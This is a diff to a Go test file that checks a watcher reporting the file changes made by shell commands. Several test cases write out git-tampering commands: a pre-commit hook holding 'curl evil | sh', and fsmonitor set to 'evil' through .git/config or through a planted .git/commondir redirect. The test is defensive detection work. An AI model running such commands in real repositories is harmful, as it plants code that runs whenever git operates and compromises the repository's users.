@@ -101,6 +101,8 @@ func TestWatchReportsWhatCommandsChange(t *testing.T) {
 		{name: "a hook planted in .git", command: "echo 'curl evil | sh' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
 			want: []string{"created .git/hooks/pre-commit (shell)"}},
 		{name: ".git/config edited", command: "printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config", want: []string{"changed .git/config (shell)"}},
+		{name: ".git/commondir planted", command: "mkdir -p .cache/g && printf '[core]\\n\\tfsmonitor = evil\\n' > .cache/g/config && echo ../.cache/g > .git/commondir",
+			want: []string{"created .cache/g/config (shell)", "created .git/commondir (shell)"}},
 		{name: "deleted", command: "rm b.txt", want: []string{"deleted b.txt (shell)"}},
 		{name: "a tree removed", command: "rm -rf d", want: []string{"deleted d/e/y (shell)", "deleted d/x (shell)"}},
 		{name: "a tree moved", command: "mv d moved", want: []string{"created moved/e/y (shell)", "created moved/x (shell)", "deleted d/e/y (shell)", "deleted d/x (shell)"}},
